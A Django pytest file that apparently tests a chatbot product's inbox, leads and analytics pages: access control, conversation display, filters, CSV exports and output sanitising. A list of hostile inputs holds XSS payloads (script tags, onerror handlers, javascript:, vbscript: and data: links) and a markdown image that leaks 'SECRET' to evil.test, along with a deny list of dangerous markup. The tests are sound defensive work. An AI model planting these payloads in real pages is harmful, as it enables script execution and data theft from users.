"""The pages about what was said: inbox, leads, analytics."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from typing import TYPE_CHECKING, Any

import pytest
from django.test import Client
from django.utils import timezone

from conversations.models import Conversation, Message
from tests.conversations.conftest import deployed, released
from tests.conversations.recorded import known, talk
from tests.support.people import signed_in

if TYPE_CHECKING:
    from drafts.models import Entity
    from workspaces.access import Actor

pytestmark = pytest.mark.django_db
PAGES = ("inbox/", "leads/", "analytics/", "inbox.csv", "leads.csv", "analytics.csv")
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.test/?q=SECRET)",
    "<a hx-get=/x hx-trigger=load>x</a>",
    '<div x-data="{}">',
    "[x](data:text/html,<script>alert(1)</script>)",
    "![a][b]\n\n[b]: https://evil.test/q",
    "<svg/onload=alert(1)>",
    "[a](<javascript:alert(1)>)",
    "`<b>`\n\n```html\n<script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](vbscript:x) [y](  java\nscript:x)",
)


@pytest.fixture
def bot(acme: Any) -> Entity:
    return deployed(acme)


@pytest.fixture
def reader(vera: Actor) -> Client:
    return signed_in(Client(), vera)


def html_of(client: Client, path: str) -> str:
    response = client.get(f"/w/acme/{path}")
    assert response.status_code == 200, path
    return response.content.decode()


@pytest.mark.parametrize("path", PAGES)
def test_every_page_shows_while_there_is_nothing_to_show(reader: Client, path: str) -> None:
    assert reader.get(f"/w/acme/{path}").status_code == 200


@pytest.mark.parametrize("path", PAGES)
def test_strangers_stay_out(bot: Entity, mallory: Actor, path: str) -> None:
    talk(bot, "secret")
    assert Client().get(f"/w/acme/{path}").status_code == 302
    assert signed_in(Client(), mallory).get(f"/w/acme/{path}").status_code == 404


@pytest.mark.parametrize(
    ("answer", "words"),
    [("", "Bot: Said nothing"), ("![](https://example.com/a.png)", "Bot: …")],
)
def test_the_inbox_says_so_where_nothing_was_said(
    bot: Entity, reader: Client, answer: str, words: str
) -> None:
    talk(bot, "Where is it?", answer)
    assert words in html_of(reader, "inbox/")


def test_the_inbox_lists_and_opens_a_conversation(bot: Entity, reader: Client) -> None:
    conversation = talk(bot, "Where is it?", "**Here** [1]", feedback="up")
    known(conversation, name="Ana", email="ana@example.com")
    listed = html_of(reader, "inbox/")
    assert "Bot: Here [1]" in listed
    assert "Where is it?" not in listed
    assert "Ana" in listed
    opened = html_of(reader, f"inbox/{conversation.pk}/")
    assert "<strong>Here</strong>" in opened
    assert "ana@example.com" in opened
    assert "Helpful" in opened
    assert "<span>Took 200 ms</span>" in opened


def test_a_row_says_what_was_said_last_and_who_said_it(
    bot: Entity, alice: Actor, reader: Client
) -> None:
    conversation = talk(bot, "Where is it?", "No idea.")
    said: dict[str, Any] = {"conversation": conversation}
    later = iter(timezone.now() + timedelta(minutes=n) for n in range(1, 9))

    def row(words: str) -> bool:
        return words in html_of(reader, "inbox/")

    Message.objects.create(role="user", content="*Hello*\n there", created_at=next(later), **said)
    assert row("Visitor: *Hello* there")
    Message.objects.create(
        role="person", author=alice.user, content="In **Graz**", created_at=next(later), **said
    )
    assert row("Alice: In Graz")
    mine = signed_in(Client(), alice).get("/w/acme/inbox/").content.decode()
    assert "You: In Graz" in mine
    Message.objects.create(role="assistant", status="failed", created_at=next(later), **said)
    assert row("Bot: Failed")
    Message.objects.create(
        role="assistant", status="replaced", content="Old", created_at=next(later), **said
    )
    assert row("Bot: Failed")


def test_pages_speak_of_channels_and_facts_in_words(bot: Entity, reader: Client) -> None:
    facts = {"user_id": "42", "verified": True}
    conversation = talk(bot, "Hi", channel="openai", visitor=facts, variables={"order_number": "7"})
    known(conversation, name="Ana", phone="123")
    opened = html_of(reader, f"inbox/{conversation.pk}/")
    for words in ("OpenAI clients", "User ID", "Identity checked", "Order number", "Phone"):
        assert words in opened
    for word in (">openai<", "· openai", "user_id", "verified<", "True", "order_number"):
        assert word not in opened
    assert "Phone: 123" in html_of(reader, "leads/")


def test_who_a_website_vouched_for_is_marked(bot: Entity, reader: Client) -> None:
    told = {"user_id": "42", "name": "Ana", "verified": False}
    claimed = talk(bot, "Hi", visitor=told)
    assert "badge-check" not in html_of(reader, f"inbox/{claimed.pk}/")
    known(claimed, name="The boss")
    claimed.visitor = told | {"verified": True}
    claimed.save()
    html = html_of(reader, f"inbox/{claimed.pk}/")
    assert html.count("badge-check") == 3
    assert "Verified" in html
    # What was typed into a form is no name that was vouched for.
    assert "Ana</span>" in html


def test_variables_are_called_by_their_labels(bot: Entity, reader: Client) -> None:
    plan = {"name": "plan_code", "label": "Which plan do you have?"}
    released(bot, {"name": "Bot", "system_prompt": "Help.", "variables": [plan]})
    conversation = talk(bot, "Hi", variables={"plan_code": "Team", "old_one": "x"})
    known(conversation, name="Ana")
    for path in ("leads/", f"inbox/{conversation.pk}/"):
        html = html_of(reader, path)
        assert "Which plan do you have?" in html
        assert "Plan code" not in html
        assert "Old one" in html


def test_every_channel_can_be_chosen_in_the_filter(bot: Entity, reader: Client) -> None:
    talk(bot, "Hi", "by telegram", channel="telegram")
    html = html_of(reader, "inbox/?channel=telegram")
    assert "by telegram" in html
    for words in ("API", "OpenAI clients", "Website", "Telegram", "Discord", "WhatsApp", "Zapier"):
        assert f">{words}</option>" in html


def test_a_conversation_of_another_workspace_is_not_found(bot: Entity, mallory: Actor) -> None:
    conversation = talk(bot, "secret")
    path = f"/w/evil/inbox/{conversation.pk}/"
    assert signed_in(Client(), mallory).get(path).status_code == 404


@pytest.mark.parametrize("text", HOSTILE)
def test_what_models_and_visitors_say_does_nothing(bot: Entity, reader: Client, text: str) -> None:
    conversation = talk(bot, text, text, visitor={text: text})
    known(conversation, name=text, email=text, company=text)
    Message.objects.update(error=text[:200])
    for path in ("inbox/", f"inbox/{conversation.pk}/", "leads/"):
        html = html_of(reader, path).lower()
        body = html[html.index("<main") : html.index("</main>")]
        for bad in (
            "<script",
            "<img",
            "<div x-data",
            'href="javascript',
            'href="data',
            "<a hx-get",
        ):
            assert bad not in body, (path, bad)
        assert 'src="https://evil' not in body
        assert 'href="vbscript' not in body


def test_a_row_names_the_person_and_never_the_bot(bot: Entity, reader: Client) -> None:
    talk(bot, "from nobody", channel="api")
    talk(bot, "from a user", channel="api", visitor={"user": "u7"})
    talk(bot, "from a name", variables={"name": "Ana"})
    heads = re.findall(
        r'inbox-row-head"><span class="truncate">(.*?)</span>', html_of(reader, "inbox/")
    )
    assert heads == ["Ana", "u7", "Visitor"]


def test_leads_show_what_was_told_before_the_chat(bot: Entity, reader: Client) -> None:
    known(talk(bot, "hi", variables={"order_number": "7", "email": "b@example.com"}), name="Ana")
    known(talk(bot, "hi", variables={"email": "other@example.com"}), email="ana@example.com")
    html = html_of(reader, "leads/")
    assert "Order number: 7" in html
    assert "E-mail: b@example.com" in html
    assert "other@example.com" not in html


def test_leads_show_what_was_agreed_to_with_its_links(bot: Entity, reader: Client) -> None:
    lead = known(talk(bot, "hi"), name="Ana")
    lead.consent = "I agree. [Privacy](https://shop.example/privacy) [x](javascript:alert(1))"
    lead.save()
    html = html_of(reader, "leads/")
    assert 'href="https://shop.example/privacy"' in html
    assert ">Privacy</a>" in html
    assert 'href="javascript' not in html


def test_exports_hold_what_was_told_before_the_chat(bot: Entity, reader: Client) -> None:
    page = {"page": "https://shop.example/"}
    known(talk(bot, "hi", visitor=page, variables={"visitor": "Vera", "size": "L"}), name="Ana")
    for path in ("inbox.csv", "leads.csv"):
        names, row = csv.reader(io.StringIO(b"".join(reader.get(f"/w/acme/{path}")).decode()))
        assert row[names.index("variables")] == "size: L; visitor: Vera"


def test_analytics_list_the_days_on_which_something_happened(bot: Entity, reader: Client) -> None:
    assert "Nothing happened" in html_of(reader, "analytics/")
    talk(bot, "hi", days_ago=3)
    talk(bot, "hi")
    html = html_of(reader, "analytics/")
    assert html.count('data-series="1"><title>') == 2
    assert html.count('<th scope="row"><time') == 2
    assert "Nothing happened" not in html


def test_failed_answers_say_why(bot: Entity, reader: Client) -> None:
    conversation = talk(bot, "hi", "", status="failed")
    Message.objects.filter(role="assistant").update(error="The model answered 429.")
    opened = html_of(reader, f"inbox/{conversation.pk}/")
    assert "Failed" in opened
    told = opened.index("The visitor was told that no answer could be given, and not why.")
    assert told < opened.index("The model answered 429.")
    # A program that asks with a key is told why.
    Conversation.objects.update(channel="api")
    opened = html_of(reader, f"inbox/{conversation.pk}/")
    assert "The visitor was told" not in opened
    assert "The model answered 429." in opened


def test_an_open_conversation_says_who_it_is(bot: Entity, reader: Client) -> None:
    conversation = talk(bot, "Hi", visitor={"name": "Kerry Fisher"})
    opened = html_of(reader, f"inbox/{conversation.pk}/")
    assert '<h2 class="truncate">Kerry Fisher</h2>' in opened
    assert '<span class="said-who">Kerry Fisher</span>' in opened
    unknown = talk(bot, "Hi")
    assert '<span class="said-who">Visitor</span>' in html_of(reader, f"inbox/{unknown.pk}/")


def test_the_filter_narrows_and_pages_follow(bot: Entity, reader: Client) -> None:
    for n in range(55):
        talk(bot, f"number {n}", days_ago=n % 3)
    talk(bot, "refund", channel="api")
    assert "number 7" not in html_of(reader, "inbox/?channel=api")
    first = html_of(reader, "inbox/?channel=website")
    assert "Older" in first
    assert "cursor=" in first
    assert "Nothing found" in html_of(reader, "inbox/?q=nothing+like+it")
    assert reader.get("/w/acme/inbox/?since=yesterday").status_code == 422
    assert reader.get("/w/acme/inbox/?cursor=x").status_code == 400


def test_leads_and_analytics_show_what_there_is(bot: Entity, reader: Client) -> None:
    known(talk(bot, "hi", feedback="up"), name="Ana", email="ana@example.com", company="Acme Ltd")
    leads = html_of(reader, "leads/")
    assert "Ana" in leads
    assert "Acme Ltd" in leads
    analytics = html_of(reader, "analytics/")
    assert "100 %" in analytics
    assert "<rect" in analytics
    assert " style=" not in analytics
    text = b"".join(reader.get("/w/acme/leads.csv")).decode()
    assert "ana@example.com" in text
